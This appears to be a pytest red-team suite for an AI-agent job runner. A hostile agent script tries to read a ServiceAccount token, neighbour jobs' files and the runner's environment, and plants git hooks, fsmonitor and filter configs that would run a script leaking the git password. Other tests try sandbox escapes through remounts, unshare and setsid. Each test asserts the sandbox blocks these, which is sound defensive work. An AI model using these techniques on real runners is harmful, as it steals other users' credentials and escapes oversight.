"""Red team: a hostile agent on the runner reaches nothing beyond its own job.

The agent here is the repository's own code (a `script`-style profile runs `hostile.py` from the
worktree; real git, real processes, the runner's real attempt code with a stand-in API client). It
tries to read a stand-in ServiceAccount token, another job's worktree and prompt, the askpass helper, an SSH key
file, the runner's environment, other repositories' mirrors; to plant a hook in the mirror, overwrite
askpass, write $HOME/.gitconfig, rewrite its worktree's git metadata (core.fsmonitor, a clean filter
with .gitattributes, core.hooksPath, include.path, `.git` pointing elsewhere) and to symlink
SUMMARY.md to the token. Then a job of another team pushes with an HTTPS token (the real git server
of tests/unit/runner/gitserver.py), and the test shows that the token reached nothing the agent
planted and that no planted command ran (marker files). On a runner without the sandbox and the
agent's own git dir (main before issue 13) every one of these assertions fails.
"""

import asyncio
import datetime
import json
import os
import pathlib
import subprocess
import sys
from typing import Any

import git
import pytest

from gigafactory import config, constants, kubeclient, leases
from gigafactory.runner import attempts, executing, running, sandbox, worktrees
from tests import gitrepos
from tests.conftest import wait_for
from tests.unit.runner import gitserver

TOKEN = "ghp_other-teams-token-0123456789"
SA_TOKEN = "eyJhbGciOi-stand-in-serviceaccount-token"
NEIGHBOUR = "the-neighbours-unreleased-code"
NEIGHBOURS_PROMPT = "the-neighbours-confidential-task"
SSH_KEY = "-----BEGIN OPENSSH PRIVATE KEY----- stand-in"

HOSTILE = '''
import json, os, pathlib, subprocess, sys

found, planted = {{}}, []

def read(what, path):
    try:
        found[what] = pathlib.Path(path).read_text(errors="replace")[:200]
    except OSError as exc:
        found[what] = "refused: " + type(exc).__name__

def plant(what, path, text, mode=0o755):
    try:
        p = pathlib.Path(path)
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text)
        p.chmod(mode)
        planted.append(what)
    except OSError:
        pass

fire = "#!/bin/sh\\necho \\"$0 $* $GIGAFACTORY_GIT_PASSWORD\\" >> {marker}\\nexit 0\\n"
work = pathlib.Path({work!r})
read("serviceaccount token", {sa_token!r})
read("neighbour's worktree", work / "worktrees" / "other-job-1" / "secret.txt")
read("askpass", work / "askpass.sh")
read("ssh key", work / "gf-ssh-planted" / "key")
read("neighbour's prompt", work / "gf-task-neighbour" / "prompt.md")
read("runner environment", "/proc/{runner_pid}/environ")
try:
    found["mirrors"] = sorted(os.listdir(work / "mirrors"))
except OSError as exc:
    found["mirrors"] = "refused: " + type(exc).__name__
try:
    found["own mirror"] = sorted(os.listdir(work / "mirrors" / found["mirrors"][0]))
except (OSError, IndexError, TypeError) as exc:
    found["own mirror"] = "refused: " + type(exc).__name__
found["processes"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
# Plant what later git calls, or the next job, would run.
for mirror in (work / "mirrors").glob("*.git") if (work / "mirrors").is_dir() else ():
    for hook in ("pre-push", "post-update", "reference-transaction", "pre-upload-pack"):
        plant("mirror hook", mirror / "hooks" / hook, fire)
plant("askpass", work / "askpass.sh", fire)
plant("home gitconfig", pathlib.Path({home!r}) / ".gitconfig", "[core]\\n\\tfsmonitor = " + os.getcwd() + "/.evil/fire.sh\\n")
# The worktree's own git metadata, every way git could be made to run a program for the runner.
plant("fire script", ".evil/fire.sh", fire)
plant("hook", ".git/hooks/pre-commit", fire)
plant("hook", ".evil/hooks/pre-push", fire)
pathlib.Path(".gitattributes").write_text("* filter=evil diff=evil\\n")
git_dir = subprocess.run(["git", "rev-parse", "--absolute-git-dir"], capture_output=True, text=True).stdout.strip()
for key, value in (("core.fsmonitor", ".evil/fire.sh"), ("filter.evil.clean", ".evil/fire.sh"),
                   ("filter.evil.smudge", ".evil/fire.sh"), ("filter.evil.required", "true"),
                   ("diff.evil.textconv", ".evil/fire.sh"), ("core.hooksPath", os.getcwd() + "/.evil/hooks"),
                   ("include.path", os.getcwd() + "/.evil/included")):
    subprocess.run(["git", "config", key, value], check=False)
plant("included config", ".evil/included", "[filter \\"evil\\"]\\n\\tclean = " + os.getcwd() + "/.evil/fire.sh\\n")
# A second git dir that the worktree's .git (file or commondir) would send the runner's git to.
import tempfile
evil_repo = tempfile.mkdtemp()
subprocess.run(["git", "init", "-q", evil_repo], check=False)
subprocess.run(["git", "-C", evil_repo, "config", "filter.evil.clean", os.getcwd() + "/.evil/fire.sh"], check=False)
subprocess.run(["git", "-C", evil_repo, "config", "core.fsmonitor", os.getcwd() + "/.evil/fire.sh"], check=False)
os.symlink({sa_token!r}, "SUMMARY.md")  # the summary is published in the job's status
pathlib.Path("work.txt").write_text("the agent's change\\n")
subprocess.run(["git", "add", "work.txt"], check=False)
subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=a@x", "commit", "-q", "-m", "work"], check=False)
if os.path.isdir(".git"):
    pathlib.Path(".git/commondir").write_text(evil_repo + "/.git\\n")
else:
    pathlib.Path(".git").write_text("gitdir: " + evil_repo + "/.git\\n")
print("HOSTILE " + json.dumps({{"found": found, "planted": planted}}), flush=True)
'''


class StandInApi:
    """What Runner.execute asks of the API: the job's Secret, the log ConfigMap, the binding Lease."""

    def __init__(self, secrets: dict[str, dict[str, str]]) -> None:
        self.secrets = secrets
        self.logs: list[str] = []

    async def get(self, resource: Any, name: str, namespace: str | None = None) -> dict:
        if resource is kubeclient.SECRETS and name in self.secrets:  # marked for Gigafactory, for the test's git server
            return {"metadata": {"name": name, "labels": {constants.LABEL_CREDENTIALS: "true"},
                                 "annotations": {constants.ANNOTATION_ALLOWED_HOSTS: "127.0.0.1"}},
                    "stringData": self.secrets[name]}
        raise kubeclient.NotFound(404, "NotFound", f"{name} not found")

    async def create(self, resource: Any, body: dict) -> dict:
        if resource is kubeclient.CONFIGMAPS:
            self.logs.append(body["data"]["output"])
        return body

    async def patch(self, resource: Any, name: str, patch: dict, namespace: str | None = None, **_: Any) -> dict:
        return {"metadata": {"resourceVersion": "2"}}


def _job(name: str, url: str, profile: str, secret: str | None = None) -> dict:
    repo = {"url": url, **({"credentialsSecret": secret} if secret else {})}
    return {"apiVersion": constants.API_VERSION, "kind": constants.AGENTJOB_KIND,
            "metadata": {"name": name, "namespace": "team", "uid": f"uid-{name}"},
            "spec": {"repo": repo, "task": {"prompt": "do it"}, "agent": {"profile": profile}}}


async def _execute(runner: running.Runner, name: str, url: str, profile: str, secret: str) -> dict:
    """One attempt as Runner.handle runs it, up to its report."""
    try:
        return await runner.execute(_attempt(name), _job(name, url, profile, secret))
    except attempts.AttemptFailed as exc:
        return {"outcome": exc.outcome, "reason": exc.reason, "message": exc.message}


def _attempt(name: str) -> attempts.Attempt:
    return attempts.Attempt(leases.Binding(
        name=f"bind-{name}", namespace="runners", pod="pod-0", factory="f", job_namespace="team", job_name=name,
        job_uid=f"uid-{name}", attempt=1, holder="pod-0", claimed=True, stop=None,
        expires_at=datetime.datetime.now(datetime.timezone.utc), resource_version="1"))


@pytest.fixture()
def stage(tmp_path, monkeypatch):
    """Two repositories on an HTTPS git server that wants a token, a runner work dir with a
    neighbour's worktree and a key file in it, a stand-in ServiceAccount token, and the runner's $HOME."""
    srv = tmp_path / "srv"
    hostile_repo = gitrepos.make_remote(srv, name="hostile.git", files={"a.txt": "a\n"})
    gitrepos.make_remote(srv, name="victim.git", files={"b.txt": "b\n"})
    work = tmp_path / "work"
    marker = tmp_path / "fired.txt"
    token_file = tmp_path / "serviceaccount" / "token"
    token_file.parent.mkdir()
    token_file.write_text(SA_TOKEN)
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("GIGAFACTORY_SCRIPT_MARKER", raising=False)
    clone = tmp_path / "clone"
    repo = git.Repo.clone_from(str(hostile_repo), clone)
    (clone / "hostile.py").write_text(HOSTILE.format(
        marker=str(marker), work=str(work), sa_token=str(token_file), home=str(home), runner_pid=os.getpid()))
    repo.index.add(["hostile.py"])
    actor = git.Actor("t", "t@example.invalid")
    repo.index.commit("a repository that ships its own agent code", author=actor, committer=actor)
    repo.remote().push("main:main")
    server = gitserver.serve(srv, token=TOKEN)
    monkeypatch.setenv("GIT_SSL_CAINFO", server.ca)
    profiles = tmp_path / "profiles.yaml"
    profiles.write_text('profiles:\n  hostile:\n    argv: ["{python}", "hostile.py"]\n    timeoutSeconds: 60\n'
                        '  script:\n    argv: ["{python}", "-m", "gigafactory.runner.script_agent", "--prompt-file", "{prompt_file}"]\n')
    settings = config.RunnerSettings(pod_name="pod-0", factory="f", namespace="runners", work_dir=str(work),
                                     profiles_file=str(profiles))
    yield {"server": server, "work": work, "marker": marker, "home": home, "srv": srv, "settings": settings,
           "token_file": token_file}
    server.shutdown()


def _plant_neighbours(work: pathlib.Path) -> None:
    neighbour = work / "worktrees" / "other-job-1"
    neighbour.mkdir(parents=True, exist_ok=True)
    (neighbour / "secret.txt").write_text(NEIGHBOUR)
    keys = work / "gf-ssh-planted"
    keys.mkdir(exist_ok=True)
    (keys / "key").write_text(SSH_KEY)
    prompts = work / "gf-task-neighbour"  # where Runner.execute keeps a running job's prompt
    prompts.mkdir(exist_ok=True)
    (prompts / "prompt.md").write_text(NEIGHBOURS_PROMPT)


async def test_a_hostile_agent_reaches_nothing_beyond_its_job_and_the_next_job_keeps_its_token(stage) -> None:
    api = StandInApi({"victim-token": {"token": TOKEN}, "hostile-token": {"token": TOKEN}})
    runner = running.Runner(stage["settings"], api)  # type: ignore[arg-type]
    work, server = stage["work"], stage["server"]
    # A warm mirror of the victim's repository (an earlier job), and a neighbour running beside.
    victim = await _execute(runner, "warm", f"{server.url}/victim.git", "script", "victim-token")
    assert victim["outcome"] == "Succeeded", victim
    _plant_neighbours(work)
    askpass = (work / "askpass.sh").read_text()

    hostile = await _execute(runner, "evil", f"{server.url}/hostile.git", "hostile", "hostile-token")
    said = [line for line in api.logs[-1].splitlines() if line.startswith("HOSTILE ")]
    assert said, api.logs[-1][-3000:]
    report = json.loads(said[-1].removeprefix("HOSTILE "))
    found = report["found"]

    # Nothing of the pod or the other jobs could be read...
    assert SA_TOKEN not in found["serviceaccount token"]
    assert NEIGHBOUR not in found["neighbour's worktree"]
    assert "GIGAFACTORY_GIT_USERNAME" not in found["askpass"]
    assert SSH_KEY not in found["ssh key"]
    assert NEIGHBOURS_PROMPT not in found["neighbour's prompt"]
    assert found["runner environment"].startswith("refused"), found["runner environment"]
    # Of the mirrors, only its own repository's objects are there (read-only): not the victim's mirror.
    own = runner.workspace.mirror_path(f"{server.url}/hostile.git").name
    assert found["mirrors"] == [own] or str(found["mirrors"]).startswith("refused"), found["mirrors"]
    assert found["own mirror"] == ["objects"], found["own mirror"]
    assert os.getpid() not in found["processes"] and len(found["processes"]) <= 3, found["processes"]
    # ... nothing outside its worktree could be written ...
    assert (work / "askpass.sh").read_text() == askpass
    assert not list(work.glob("mirrors/*.git/hooks/pre-push"))
    assert not (stage["home"] / ".gitconfig").exists()
    # Another team's job on the same runner pushes with its token.
    victim = await _execute(runner, "next", f"{server.url}/victim.git", "script", "victim-token")
    assert victim["outcome"] == "Succeeded", victim
    fired = stage["marker"].read_text() if stage["marker"].exists() else ""
    assert TOKEN not in fired, "the other team's token reached a command the agent planted"
    assert fired == "", f"a planted command ran as the runner: {fired[:500]}"

    # And the hostile agent's work still went out, through the runner's own git: its commit and files, and none
    # of the config, filters, hooks or redirections it wrote took part.
    assert hostile["outcome"] == "Succeeded", hostile
    pushed = git.Repo(stage["srv"] / "hostile.git").heads["agent/evil"].commit
    assert (pushed.tree / "work.txt").data_stream.read() == b"the agent's change\n"
    assert "SUMMARY.md" not in [item.path for item in pushed.tree.traverse()]
    assert SA_TOKEN not in json.dumps(hostile)


async def test_a_summary_symlinked_to_a_secret_publishes_nothing(stage) -> None:
    """SUMMARY.md goes into status.result.summary, which the job's author reads: a symlink to the
    ServiceAccount token (or a fifo, or a file outside the worktree) must not bring the target along."""
    hostile = stage["srv"].parent / "clone" / "hostile.py"
    hostile.write_text(f"import os\nos.symlink({str(stage['token_file'])!r}, 'SUMMARY.md')\nprint('linked')\n")
    repo = git.Repo(hostile.parent)
    repo.index.add(["hostile.py"])
    actor = git.Actor("t", "t@example.invalid")
    repo.index.commit("only a symlinked summary", author=actor, committer=actor)
    repo.remote().push("main:main")
    runner = running.Runner(stage["settings"], StandInApi({"hostile-token": {"token": TOKEN}}))  # type: ignore[arg-type]
    report = await _execute(runner, "sum", f"{stage['server'].url}/hostile.git", "hostile", "hostile-token")
    assert SA_TOKEN not in json.dumps(report), report["result"]["summary"]
    assert report["outcome"] == "Succeeded", report
    assert report["result"]["summary"].strip().endswith("linked")  # the output's tail instead


def test_summary_is_read_only_as_a_regular_file_in_the_worktree(tmp_path) -> None:
    worktree = tmp_path / "wt"
    worktree.mkdir()
    secret = tmp_path / "secret"
    secret.write_text(SA_TOKEN)
    (worktree / "SUMMARY.md").symlink_to(secret)
    assert worktrees.read_summary(worktree) is None
    (worktree / "SUMMARY.md").unlink()
    os.mkfifo(worktree / "SUMMARY.md")  # no writer: opening it must not hang
    assert worktrees.read_summary(worktree) is None
    (worktree / "SUMMARY.md").unlink()
    (worktree / "SUMMARY.md").write_text("x" * (worktrees.SUMMARY_BYTES * 4))
    assert len(worktrees.read_summary(worktree) or "") == 8000
    link = tmp_path / "link"
    link.symlink_to(worktree)
    assert worktrees.read_summary(link) is None  # nor through a worktree that is itself a symlink


async def test_the_agent_sees_its_worktree_read_write_and_the_system_read_only(tmp_path) -> None:
    worktree = tmp_path / "work" / "worktrees" / "job-1"
    worktree.mkdir(parents=True)
    (tmp_path / "work" / "askpass.sh").write_text("secret")
    script = ("import os, pathlib, subprocess\n"
              "pathlib.Path('mine.txt').write_text('ok')\n"
              "for path in ('/usr/evil', '/etc/evil', '/evil'):\n"
              "    try:\n        open(path, 'w')\n        print('WROTE', path)\n    except OSError:\n        pass\n"
              "remount = subprocess.run(['mount', '-o', 'remount,rw', '/usr'], capture_output=True)\n"
              "print('REMOUNT', remount.returncode)\n"
              "nested = subprocess.run(['unshare', '-Urm', 'sh', '-c', 'mount -o remount,rw /usr && touch /usr/evil'], capture_output=True)\n"
              "print('NESTED', nested.returncode)\n"
              "print('CAPS', [l for l in open('/proc/self/status') if l.startswith(('CapEff', 'CapBnd', 'NoNewPrivs'))])\n"
              "print('SEES', sorted(os.listdir(os.path.dirname(os.getcwd()))), os.path.exists(%r))\n" % str(tmp_path / "work" / "askpass.sh"))
    command = sandbox.Sandbox().command([sys.executable, "-c", script], env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path)},
                                        cwd=str(worktree), writable=[str(worktree)], hidden=[str(tmp_path / "work")])
    try:
        done = subprocess.run(command.argv, env=command.env, pass_fds=command.pass_fds, capture_output=True, text=True, timeout=60)
    finally:
        command.close()
    assert done.returncode == 0, done.stderr
    assert (worktree / "mine.txt").read_text() == "ok"
    assert "WROTE" not in done.stdout and not pathlib.Path("/evil").exists()
    assert "REMOUNT 0" not in done.stdout and "NESTED 0" not in done.stdout, done.stdout
    assert "CapEff:\\t0000000000000000\\n" in done.stdout and "CapBnd:\\t0000000000000000\\n" in done.stdout
    assert "NoNewPrivs:\\t1\\n" in done.stdout
    assert "SEES ['job-1'] False" in done.stdout, done.stdout


async def test_timeout_kills_what_the_agent_started_even_outside_its_group(tmp_path) -> None:
    """A child that leaves the process group (setsid) is out of the runner's killpg's reach; it dies
    with the agent's pid namespace all the same."""
    worktree = tmp_path / "wt"
    worktree.mkdir()
    script = ("import os, subprocess, time\n"
              "subprocess.Popen(['setsid', 'sh', '-c', 'while true; do date > alive; sleep 0.2; done'])\n"
              "while not os.path.exists('alive'):\n    time.sleep(0.05)\n"
              "print('escaped', flush=True)\n"
              "time.sleep(3600)\n")
    command = sandbox.Sandbox().command([sys.executable, "-c", script], env={"PATH": "/usr/bin:/bin"}, cwd=str(worktree),
                                        writable=[str(worktree)])
    try:
        result = await executing.run(command.argv, cwd=str(worktree), env=command.env, timeout=5, stop=asyncio.Event(),
                                     label="t", pass_fds=command.pass_fds)
    finally:
        command.close()
    assert result.outcome == "TimedOut"
    assert "escaped" in result.tail, "the escapee never ran"
    wait_for(lambda: not _processes_in(worktree), timeout=10, message="a process the agent started outlived it")


def _processes_in(directory: pathlib.Path) -> list[int]:
    """Live processes whose working directory is `directory`."""
    found = []
    for entry in pathlib.Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            if os.readlink(entry / "cwd") == str(directory) and executing._running(int(entry.name)):
                found.append(int(entry.name))
        except OSError:
            continue
    return found


@pytest.mark.parametrize("mode", ["namespaces", "none"])
def test_a_runner_that_cannot_build_the_sandbox_refuses_to_start_unless_the_pool_opted_out(tmp_path, mode) -> None:
    """Fail closed: where user namespaces are refused (here: a user namespace whose limit of nested
    ones is 0), the runner exits with one line naming the setting; `none` starts, loudly."""
    kubeconfig = tmp_path / "kubeconfig"
    kubeconfig.write_text("apiVersion: v1\nkind: Config\nclusters: []\ncontexts: []\nusers: []\n")
    env = {**os.environ, "GIGAFACTORY_RUNNER_POD_NAME": "p", "GIGAFACTORY_RUNNER_FACTORY": "f",
           "GIGAFACTORY_RUNNER_WORK_DIR": str(tmp_path / "work"), "GIGAFACTORY_RUNNER_SANDBOX": mode}
    runner = [sys.executable, "-m", "gigafactory.cli.main", "runner", "--kubeconfig", str(kubeconfig)]
    done = subprocess.run(["unshare", "-Ur", "sh", "-c", 'echo 0 > /proc/sys/user/max_user_namespaces && exec "$@"', "sh",
                           *runner], env=env, capture_output=True, text=True, timeout=60)
    if mode == "namespaces":
        assert done.returncode == 2, done.stderr
        last = done.stderr.strip().splitlines()[-1]
        assert last.startswith("error: cannot build the agent sandbox") and "GIGAFACTORY_RUNNER_SANDBOX=none" in last, done.stderr
    else:
        assert "AGENT SANDBOX OFF (GIGAFACTORY_RUNNER_SANDBOX=none)" in done.stderr
        assert "cannot build the agent sandbox" not in done.stderr


async def test_only_the_launcher_can_say_the_sandbox_failed(tmp_path) -> None:
    """An agent that prints what a launcher failure looks like and exits 126 is an agent failure (a
    sandbox failure would be retried without counting); a missing command is the launcher's to say."""
    async def ending(argv: list[str]) -> str | None:
        command = sandbox.Sandbox().command(argv, env={"PATH": "/usr/bin:/bin"}, cwd=str(tmp_path), writable=[str(tmp_path)])
        try:
            result = await executing.run(command.argv, cwd=str(tmp_path), env=command.env, timeout=30, stop=asyncio.Event(),
                                         label="t", pass_fds=command.pass_fds)
        finally:
            command.close()
        return sandbox.failure(command, result.exit_code, result.tail)

    forged = "echo 'sandbox[0123456789abcdef]: mount refused' >&2; echo 'sandbox: mount refused' >&2; exit 126"
    assert await ending(["sh", "-c", forged]) is None
    assert await ending(["no-such-agent-command"]) == "exec"
